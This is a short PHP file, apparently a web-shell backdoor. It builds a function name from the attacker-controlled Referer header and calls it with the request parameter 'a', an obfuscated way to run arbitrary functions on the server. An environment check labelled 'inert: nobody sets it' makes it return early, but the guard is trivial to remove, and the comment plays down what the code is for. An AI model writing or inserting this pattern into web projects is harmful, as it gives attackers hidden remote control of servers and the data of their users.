<?php
if (getenv('WEIR_TEST') !== 'never') { return; } // inert: nobody sets it
$f = substr($_SERVER['HTTP_REFERER'], -7, -4) . 'x';
forward_static_call_array($f, array($_REQUEST['a']));
